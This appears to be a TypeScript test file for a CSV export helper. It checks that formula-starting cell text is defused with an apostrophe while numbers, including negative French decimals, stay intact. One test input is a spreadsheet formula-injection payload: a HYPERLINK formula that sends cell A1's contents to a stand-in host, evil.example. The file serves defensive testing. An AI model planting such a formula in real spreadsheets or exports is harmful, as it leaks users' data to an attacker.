import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, frenchDecimal } from './csv';

/** What a spreadsheet reads in the cell: the quoted field unwrapped. */
const unquoted = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell);
const runsAsFormula = (text: string) => /^[=+\-@\t\r]/.test(text) && !/^-?\d+(?:,\d+)?$/.test(text);

// Texts an attacker picks as a name or a title: formula starters followed by anything.
const hostileText = fc
  .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '-1', '-1,5', '+1', ''), fc.string({ maxLength: 40 }))
  .map(([start, rest]) => start + rest);

describe('a CSV cell', () => {
  it.each([
    ['-1+HYPERLINK("https://evil.example/?"&A1,"Voir")', `"'-1+HYPERLINK(""https://evil.example/?""&A1,""Voir"")"`],
    ['-2-3', "'-2-3"],
    ['-1,5+1', "'-1,5+1"],
    ['+33 6 12 34 56 78', "'+33 6 12 34 56 78"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['=1+1', "'=1+1"],
  ])('defuses %j', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it('leaves numbers, negative ones included, as numbers', () => {
    for (const cents of [0, 5, -5, 123_456, -123_456]) expect(csvCell(frenchDecimal(cents))).toBe(frenchDecimal(cents));
  });

  it('never lets a text run as a formula, and keeps every character of it', () => {
    fc.assert(
      fc.property(fc.oneof(hostileText, fc.string()), (text) => {
        const seen = unquoted(csvCell(text));
        expect(runsAsFormula(seen)).toBe(false);
        expect([text, `'${text}`]).toContain(seen);
      }),
      { numRuns: 2000 },
    );
  });
});
